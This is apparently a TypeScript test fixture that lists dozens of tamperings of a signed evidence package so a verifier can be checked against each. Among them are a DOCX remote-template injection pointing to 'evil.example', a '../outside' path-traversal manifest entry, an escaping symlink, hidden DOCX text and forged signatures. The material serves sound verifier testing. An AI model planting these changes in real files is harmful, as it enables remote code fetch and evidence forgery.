import { copyFile, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { withPart } from './office.js';

/**
 * A way to tamper with a package, and the place that the verifier must name. `sealed` ones are done
 * by a forger who hashes and signs everything anew with a key of his own: only what the figures say
 * of each other gives them away.
 */
export interface Tampering {
  readonly name: string;
  readonly isSealed: boolean;
  readonly change: (root: string) => Promise<void>;
  /** In the place of a finding. */
  readonly place: RegExp;
}

const edit = async (
  root: string,
  file: string,
  change: (text: string) => string,
): Promise<void> => {
  const path = join(root, file);
  const text = await readFile(path, 'utf8');
  const changed = change(text);
  if (changed === text) throw new Error(`nothing to change in ${file}`);
  await writeFile(path, changed);
};
const editLines = (root: string, file: string, change: (lines: string[]) => string[]) =>
  edit(root, file, (text) => `${change(text.trimEnd().split('\n')).join('\n')}\n`);
const editJson = (root: string, file: string, change: (value: never) => void) =>
  edit(root, file, (text) => {
    const value = JSON.parse(text) as never;
    change(value);
    return `${JSON.stringify(value, null, 2)}\n`;
  });
const swap = (lines: string[], a: number, b: number): string[] => {
  const swapped = [...lines];
  [swapped[a], swapped[b]] = [swapped[b]!, swapped[a]!];
  return swapped;
};
/** Changes a cell of the first row that fits; simple cells only. */
const cell =
  (row: (cells: string[]) => boolean, at: number, to: (old: string) => string) =>
  (lines: string[]): string[] => {
    const no = lines.findIndex((line, i) => i > 0 && row(line.split(',')));
    const cells = lines[no]!.split(',');
    cells[at] = to(cells[at]!);
    return lines.map((line, i) => (i === no ? cells.join(',') : line));
  };
const editDocx = async (root: string, change: (xml: string) => string): Promise<void> => {
  const path = join(root, 'data/letter/letter.docx');
  await writeFile(path, await withPart(await readFile(path), 'word/document.xml', change));
};
const editXlsx = async (root: string, part: string, change: (xml: string) => string) => {
  const path = join(root, 'data/schedules/schedules.xlsx');
  await writeFile(path, await withPart(await readFile(path), part, change));
};
interface FiguresFile {
  figures: { id: string; value: number; text: string; computed: { take: string } }[];
  tables: {
    id: string;
    query: { limit: number; where?: object };
    rows: string[][];
    total: number;
  }[];
}
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const first = () => true;
const SCHEDULES = 'data/schedules';

const OPEN: readonly Omit<Tampering, 'isSealed'>[] = [
  {
    name: 'one digit changed in a schedule',
    place: /schedules\/accounts\.csv/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/accounts.csv`,
        cell(first, 4, (c) => `${Number(c) + 1}`),
      ),
  },
  {
    name: 'one byte changed in a Parquet file',
    place: /accounts\.parquet/,
    change: async (r) => {
      const p = join(r, SCHEDULES, 'accounts.parquet');
      const b = await readFile(p);
      b[100] = b[100]! ^ 1;
      await writeFile(p, b);
    },
  },
  {
    name: 'a file taken out',
    place: /links\.csv/,
    change: (r) => rm(join(r, SCHEDULES, 'links.csv')),
  },
  {
    name: 'a file put in',
    place: /data\/extra\.txt/,
    change: (r) => writeFile(join(r, 'data/extra.txt'), 'x'),
  },
  {
    name: 'the run’s record changed',
    place: /record\/run\.json/,
    change: (r) => edit(r, 'data/record/run.json', (t) => t.replace(/"seed": \d+/, '"seed": 7')),
  },
  {
    name: 'a hash in the manifest replaced',
    place: /manifest-sha256\.txt|accounts\.csv/,
    change: (r) =>
      edit(r, 'manifest-sha256.txt', (t) =>
        t.replace(/^[0-9a-f]{64}(?= {2}data\/schedules\/accounts\.csv)/m, '0'.repeat(64)),
      ),
  },
  {
    name: 'a line dropped from the tag manifest',
    place: /tagmanifest-sha256\.txt/,
    change: (r) => editLines(r, 'tagmanifest-sha256.txt', (l) => l.slice(1)),
  },
  {
    name: 'the raw signature replaced',
    place: /\.sig$/,
    change: (r) => writeFile(join(r, 'tagmanifest-sha256.txt.sig'), Buffer.alloc(64, 1)),
  },
  {
    name: 'the minisign signature’s comment changed',
    place: /\.minisig$/,
    change: (r) =>
      edit(r, 'tagmanifest-sha256.txt.minisig', (t) =>
        t.replace('trusted comment: throughline', 'trusted comment: somebody'),
      ),
  },
  {
    name: 'the SSH signature taken out',
    place: /\.sshsig$/,
    change: (r) => rm(join(r, 'tagmanifest-sha256.txt.sshsig')),
  },
  {
    name: 'the verifier changed',
    place: /verify\.mjs/,
    change: (r) => edit(r, 'verify.mjs', (t) => t.replace('report.ok ? 0 : 1', '0')),
  },
  {
    name: 'the public key replaced and nothing else',
    place: /signing-key\.pem|tagmanifest/,
    change: (r) =>
      edit(r, 'keys/signing-key.pem', (t) =>
        t.replace(/.(?=[^\n]{3}\n-----END)/, (c) => (c === 'A' ? 'B' : 'A')),
      ),
  },
  {
    name: 'a manifest entry that points out of the package',
    place: /integrity/,
    change: (r) => edit(r, 'manifest-sha256.txt', (t) => `${'0'.repeat(64)}  ../outside\n${t}`),
  },
];

const LINKED: Omit<Tampering, 'isSealed'> = {
  name: 'a file replaced by a link to its like outside the package',
  place: /schedules\/days\.csv/,
  change: async (r) => {
    await rename(join(r, SCHEDULES, 'days.csv'), join(r, '..', 'days-outside.csv'));
    await symlink(join(r, '..', 'days-outside.csv'), join(r, SCHEDULES, 'days.csv'));
  },
};

const SEALED: readonly Omit<Tampering, 'isSealed'>[] = [
  {
    name: 'two rows of a schedule swapped',
    place: /accounts\.csv row \d+/,
    change: (r) => editLines(r, `${SCHEDULES}/accounts.csv`, (l) => swap(l, 2, 5)),
  },
  {
    name: 'an account dropped',
    place: /accounts\.csv|operator\.csv/,
    change: (r) => editLines(r, `${SCHEDULES}/accounts.csv`, (l) => l.filter((_, i) => i !== 3)),
  },
  {
    name: 'an account put in',
    place: /accounts\.csv/,
    change: (r) =>
      editLines(r, `${SCHEDULES}/accounts.csv`, (l) => [
        ...l,
        l.at(-1)!.replace(/^[^,]+/, 'zzz_planted'),
      ]),
  },
  {
    name: 'the bits of an account raised',
    place: /accounts\.csv row 1 column bits/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/accounts.csv`,
        cell(first, 4, (c) => `${Number(c) + 3}`),
      ),
  },
  {
    name: 'the bits of a fact raised',
    place: /facts\.csv row \d+|accounts\.csv row \d+ column bits/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/facts.csv`,
        cell(
          (c) => c[3] === 'family',
          9,
          (c) => `${Number(c) + 2}`,
        ),
      ),
  },
  {
    name: 'what a signal weighs for an account raised',
    place: /facts\.csv row \d+ column signal_bits/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/facts.csv`,
        cell(
          (c) => c[3] === 'family',
          7,
          (c) => `${Number(c) + 2}`,
        ),
      ),
  },
  {
    name: 'a fact given another signal',
    place: /facts\.csv row \d+/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/facts.csv`,
        cell(
          (c) => c[3] === 'family',
          5,
          () => 'device:0000',
        ),
      ),
  },
  {
    name: 'a step of an account’s sum dropped',
    place: /facts\.csv|accounts\.csv row \d+/,
    change: (r) =>
      editLines(r, `${SCHEDULES}/facts.csv`, (l) =>
        l.filter((x, i) => i === 0 || i !== l.findIndex((y) => y.includes(',prior,')) || x === ''),
      ),
  },
  {
    name: 'holders outside the group made fewer',
    place: /signals\.csv row \d+ column bits/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/signals.csv`,
        cell(
          (c) => /^[1-9]\d*$/.test(c[5] ?? ''),
          5,
          () => '0',
        ),
      ),
  },
  {
    name: 'holders inside the group made more',
    place: /signals\.csv row \d+ column holders_inside/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/signals.csv`,
        cell(
          (c) => /^\d+$/.test(c[4] ?? ''),
          4,
          (c) => `${Number(c) + 1}`,
        ),
      ),
  },
  {
    name: 'a holding put in',
    place: /holdings\.csv/,
    change: (r) => editLines(r, `${SCHEDULES}/holdings.csv`, (l) => [...l, l.at(-1)!]),
  },
  {
    name: 'a holding given to another account',
    place: /holdings\.csv row \d+/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/holdings.csv`,
        cell(first, 3, () => 'nobody'),
      ),
  },
  {
    name: 'a link turned to another account',
    place: /links\.csv row \d+/,
    change: (r) =>
      editLines(r, `${SCHEDULES}/links.csv`, (l) => {
        const other = l[1]!.split(',')[1]!;
        return cell(
          (c) => c[1] !== other && c[0] !== other,
          1,
          () => other,
        )(l);
      }),
  },
  {
    name: 'an exchange dropped',
    place: /exchanges/,
    change: async (r) => {
      const p = join(r, SCHEDULES, 'exchanges.csv.gz');
      const l = gunzipSync(await readFile(p))
        .toString()
        .trimEnd()
        .split('\n');
      await writeFile(p, gzipSync(`${l.filter((_, i) => i !== 4).join('\n')}\n`));
    },
  },
  {
    name: 'a source row that the log does not have',
    place: /accounts\.csv row 1 column source_row/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/accounts.csv`,
        cell(first, 24, () => '99999999'),
      ),
  },
  {
    name: 'another SHA-256 for a log file',
    place: /source_sha256|custody/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/sources.csv`,
        cell(first, 7, (c) => c.replace(/^./, (d) => (d === '0' ? '1' : '0'))),
      ),
  },
  {
    name: 'a day’s exchanges raised',
    place: /days\.csv row \d+ column exchanges/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/days.csv`,
        cell(first, 2, (c) => `${Number(c) + 10}`),
      ),
  },
  {
    name: 'the probability of “one operator” raised',
    place: /hypotheses\.csv/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/hypotheses.csv`,
        cell(
          (c) => c[0] === 'company',
          3,
          () => '0.5',
        ),
      ),
  },
  {
    name: 'a cell of accounts made larger',
    place: /cells\.csv row 1 column accounts/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/cells.csv`,
        cell(
          () => true,
          2,
          (accounts) => String(Number(accounts) + 1),
        ),
      ),
  },
  {
    name: 'a figure edited',
    place: /figures\.json figure accounts/,
    change: (r) =>
      editJson(
        r,
        'data/figures.json',
        (f: { figures: { id: string; value: number; text: string }[] }) => {
          const g = f.figures.find(({ id }) => id === 'accounts')!;
          g.value += 100;
          g.text = String(g.value);
        },
      ),
  },
  {
    name: 'a figure’s words edited and its value left',
    place: /figures\.json figure exchanges/,
    change: (r) =>
      editJson(r, 'data/figures.json', (f: { figures: { id: string; text: string }[] }) => {
        f.figures.find(({ id }) => id === 'exchanges')!.text = '9,999,999';
      }),
  },
  {
    name: 'a row of an exhibit’s table edited',
    place: /figures\.json table signals\.\w+ row 1/,
    change: (r) =>
      editJson(r, 'data/figures.json', (f: { tables: { id: string; rows: string[][] }[] }) => {
        f.tables.find(({ id, rows }) => id.startsWith('signals.') && rows.length > 0)!.rows[0]![3] =
          '12,345';
      }),
  },
  {
    name: 'facts.json edited',
    place: /facts\.json account 1/,
    change: (r) =>
      editJson(r, 'data/facts.json', (f: { accounts: { bits: number }[] }) => {
        f.accounts[0]!.bits += 5;
      }),
  },
  {
    name: 'an entry taken out of the custody log',
    place: /custody\.ndjson entry/,
    change: (r) => editLines(r, 'data/record/custody.ndjson', (l) => l.filter((_, i) => i !== 1)),
  },
  {
    name: 'a figure edited in letter.json',
    place: /letter\/letter\.json part/,
    change: (r) =>
      edit(r, 'data/letter/letter.json', (t) =>
        t.replace(/("figure": "accounts",\s+"text": )"[^"]*"/, '$1"99,999"'),
      ),
  },
  {
    name: 'a number typed into letter.json',
    place: /letter\/letter\.json part/,
    change: (r) =>
      edit(r, 'data/letter/letter.json', (t) =>
        t.replace('What was found', 'What was found in 2,000 hours'),
      ),
  },
  {
    name: 'the letter’s plain text edited',
    place: /letter\/letter\.txt/,
    change: (r) =>
      edit(r, 'data/letter/letter.txt', (t) => t.replace(/[\d,]+ exchanges/, '9,999 exchanges')),
  },
  {
    name: 'a figure edited in the DOCX',
    place: /letter\.docx paragraph/,
    change: (r) => editDocx(r, (xml) => xml.replace(/(<w:t[^>]*>)(\d{2,3})(<)/, '$1987$3')),
  },
  {
    name: 'a sentence edited in the DOCX',
    place: /letter\.docx paragraph/,
    change: (r) => editDocx(r, (xml) => xml.replace('It names no party', 'It names the party')),
  },
  {
    name: 'another letter put in as PDF',
    place: /letter\.pdf part/,
    change: (r) =>
      copyFile(join(r, 'data/exhibits/exhibits.pdf'), join(r, 'data/letter/letter.pdf')),
  },
  {
    name: 'a number typed into an exhibit',
    place: /exhibits\.json Exhibit/,
    change: (r) =>
      edit(r, 'data/exhibits/exhibits.json', (t) =>
        t.replace('An innocent explanation', 'None of 12 innocent explanations'),
      ),
  },
  {
    name: 'an exhibit’s figure edited',
    place: /exhibits\.json Exhibit/,
    change: (r) =>
      edit(r, 'data/exhibits/exhibits.json', (t) =>
        t.replace(/("figure": "exchanges",\s+"text": )"[^"]*"/, '$1"1"'),
      ),
  },
  {
    name: 'the exhibits’ PDF replaced by another',
    place: /exhibits\.pdf/,
    change: (r) =>
      copyFile(join(r, 'data/letter/letter.pdf'), join(r, 'data/exhibits/exhibits.pdf')),
  },
  {
    name: 'the fingerprint in the letter replaced',
    place: /letter\.json part/,
    change: (r) =>
      edit(r, 'data/letter/letter.json', (t) =>
        t.replace(/"given": "[0-9a-f]{64}"/, `"given": "${'ab'.repeat(32)}"`),
      ),
  },
  {
    name: 'an edge of the graph turned (GEXF)',
    place: /graph\.gexf edge/,
    change: (r) =>
      edit(r, 'data/graph/graph.gexf', (t) =>
        t.replace(/(<edge id="0" source=")[^"]*/, '$1account nobody'),
      ),
  },
  {
    name: 'a node taken out of the graph (GraphML)',
    place: /graph\.graphml/,
    change: (r) =>
      editLines(r, 'data/graph/graph.graphml', (l) =>
        l.filter((x, i) => i !== l.findIndex((y) => y.startsWith('<node ')) || x === ''),
      ),
  },
  {
    name: 'a table of counter-evidence emptied by its own rule',
    place: /figures\.json table against\.facts/,
    change: (r) =>
      editJson(r, 'data/figures.json', (f: FiguresFile) => {
        const table = f.tables.find(({ id }) => id === 'against.facts')!;
        Object.assign(table, { rows: [], total: 0 });
        table.query.where = { step: ['nothing'] };
      }),
  },
  {
    name: 'the weakest accounts cut off by a table’s rule',
    place: /figures\.json table accounts\.weakest/,
    change: (r) =>
      editJson(r, 'data/figures.json', (f: FiguresFile) => {
        const table = f.tables.find(({ id }) => id === 'accounts.weakest')!;
        table.rows = table.rows.slice(0, (table.query.limit = 1));
      }),
  },
  {
    name: 'a figure computed by another rule',
    place: /figures\.json figure links/,
    change: (r) =>
      editJson(r, 'data/figures.json', (f: FiguresFile) => {
        const rule = { from: 'signals', take: 'count' };
        const figure = f.figures.find(({ id }) => id === 'links')!;
        const signals = f.figures.find(({ id }) => id === 'signals')!;
        Object.assign(figure, { computed: rule, value: signals.value, text: signals.text });
      }),
  },
  {
    name: 'a cell of the workbook edited',
    place: /schedules\.xlsx sheet accounts/,
    change: async (r) => {
      const declared = JSON.parse(await readFile(join(r, SCHEDULES, 'schedules.json'), 'utf8')) as {
        name: string;
      }[];
      const no = declared.findIndex(({ name }) => name === 'accounts') + 2;
      await editXlsx(r, `xl/worksheets/sheet${no}.xml`, (xml) =>
        xml.replace(/<v>(\d+\.?\d*)<\/v>/, '<v>9$1</v>'),
      );
    },
  },
  {
    name: 'the head of the DOCX edited',
    place: /letter\.docx word\/header1\.xml/,
    change: async (r) => {
      const path = join(r, 'data/letter/letter.docx');
      const changed = await withPart(await readFile(path), 'word/header1.xml', (xml) =>
        xml.replace('DRAFT — not approved', 'The operator is known to us'),
      );
      await writeFile(path, changed);
    },
  },
  {
    name: 'a sentence put into the DOCX under another prefix',
    place: /letter\.docx word\/document\.xml/,
    change: (r) =>
      editDocx(r, (xml) =>
        xml.replace(
          '</w:body>',
          `<x:p xmlns:x="${WORD}"><x:r><x:t>It names the party</x:t></x:r></x:p></w:body>`,
        ),
      ),
  },
  {
    name: 'a sentence of the DOCX hidden',
    place: /letter\.docx word\/document\.xml/,
    change: (r) => editDocx(r, (xml) => xml.replace('<w:rPr>', '<w:rPr><w:vanish/>')),
  },
  {
    name: 'the DOCX led to a template elsewhere',
    place: /letter\.docx word\/_rels\/document\.xml\.rels/,
    change: async (r) => {
      const path = join(r, 'data/letter/letter.docx');
      const changed = await withPart(await readFile(path), 'word/_rels/document.xml.rels', (xml) =>
        xml.replace(
          '</Relationships>',
          '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ),
      );
      await writeFile(path, changed);
    },
  },
  {
    name: 'a paragraph left out of letter.json that the PDF has',
    place: /letter\.pdf part \d+/,
    change: (r) =>
      editJson(r, 'data/letter/letter.json', (letter: { blocks: { kind: string }[] }) => {
        letter.blocks.splice(
          letter.blocks.findIndex(({ kind }) => kind === 'numbered'),
          1,
        );
      }),
  },
  {
    name: 'the probability of an account raised',
    place: /accounts\.csv row 1 column confidence/,
    change: (r) =>
      editLines(
        r,
        `${SCHEDULES}/accounts.csv`,
        cell(first, 3, () => '0.9999'),
      ),
  },
  {
    name: 'a step of an account’s sum given other words',
    place: /facts\.csv row \d+ column fact/,
    change: (r) =>
      edit(r, `${SCHEDULES}/facts.csv`, (t) =>
        t.replace('shares a signal of the network family', 'was confessed to'),
      ),
  },
  {
    name: 'the draft called approved',
    place: /facts\.json|bag-info\.txt/,
    change: async (r) => {
      await editJson(r, 'data/facts.json', (f: { is_draft: boolean }) => {
        f.is_draft = false;
      });
      await edit(r, 'bag-info.txt', (t) => t.replace(' (draft, not approved)', ''));
    },
  },
  {
    name: 'another level of redaction claimed',
    place: /redaction\.json/,
    change: (r) =>
      editJson(r, 'data/record/redaction.json', (redaction: { level: string }) => {
        redaction.level = 'public';
      }),
  },
  {
    name: 'the probability in the STIX bundle raised',
    place: /stix\.json/,
    change: (r) =>
      edit(r, 'data/interchange/stix.json', (t) =>
        t.replace(/"confidence": \d+/, '"confidence": 100'),
      ),
  },
  {
    name: 'an account put into CASE/UCO',
    place: /case-uco\.jsonld/,
    change: (r) =>
      edit(r, 'data/interchange/case-uco.jsonld', (t) =>
        t.replace(/("uco-observable:accountIdentifier": )"[^"]*"/, '$1"planted"'),
      ),
  },
  {
    name: 'a paragraph left out of exhibits.json that the PDF has',
    place: /exhibits\.pdf Exhibit A part \d+/,
    change: (r) =>
      editJson(
        r,
        'data/exhibits/exhibits.json',
        (document: { exhibits: { blocks: { kind: string }[] }[] }) => {
          document.exhibits[0]!.blocks.splice(2, 1);
        },
      ),
  },
  {
    name: 'a number in the timeline’s picture edited',
    place: /exhibits\.pdf Exhibit C timeline\.svg/,
    change: (r) =>
      edit(r, 'data/exhibits/timeline.svg', (t) => t.replace(/>\d+<\/text>/, '>987654</text>')),
  },
  LINKED,
  {
    name: 'the key replaced, everything signed anew',
    place: /custody\.ndjson/,
    change: async () => {},
  },
];

export const TAMPERINGS: readonly Tampering[] = [
  ...[...OPEN, LINKED].map((tampering) => ({ ...tampering, isSealed: false })),
  ...SEALED.map((tampering) => ({ ...tampering, isSealed: true })),
];
